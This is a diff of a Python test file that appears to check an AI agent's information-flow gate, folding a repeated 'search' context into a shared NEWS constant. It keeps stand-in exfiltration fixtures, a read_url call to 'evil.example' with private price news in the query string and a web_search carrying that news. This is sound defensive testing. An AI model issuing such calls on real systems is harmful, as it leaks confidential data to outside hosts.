@@ -84,7 +84,14 @@ def points_at(channel: str) -> Through:
 
 
 EXIT = "https://evil.example/c?d=May"
-SEARCHING = (use("web_search", query="We raise prices in May"),)
+NEWS = Ask(
+    "What is new?",
+    read(BOARD),
+    (brief("web", [BOARD]),),
+    later={"web": (use("web_search", query="We raise prices in May"),)},
+    place=BOARD,
+)
+"""One context reads #board and then asks the web for it."""
 
 GATE: Mapping[str, tuple[Ask, Through]] = {
     # nobody named #leads: what stands there is no business of this answer
@@ -106,15 +113,8 @@ GATE: Mapping[str, tuple[Ask, Through]] = {
         Ask("Find the law", {"web": (use("read_url", url=EXIT),)}),
         did("web/page", "evil.example"),
     ),
-    # one context reads #board and then asks the web for it
     "search": (
-        Ask(
-            "What is new?",
-            read(BOARD),
-            (brief("web", [BOARD]),),
-            later={"web": SEARCHING},
-            place=BOARD,
-        ),
+        NEWS,
         did("web/search", "prices in May"),
     ),
     "audience": (
@@ -138,13 +138,7 @@ GATE: Mapping[str, tuple[Ask, Through]] = {
         did(f"post {ES}", "News", times=9),
     ),
     "inherit": (
-        Ask(
-            "What is new?",
-            read(BOARD),
-            (brief("web", [BOARD]),),
-            later={"web": SEARCHING},
-            place=BOARD,
-        ),
+        NEWS,
         did("web/search", "prices in May"),
     ),
     "arguments": (
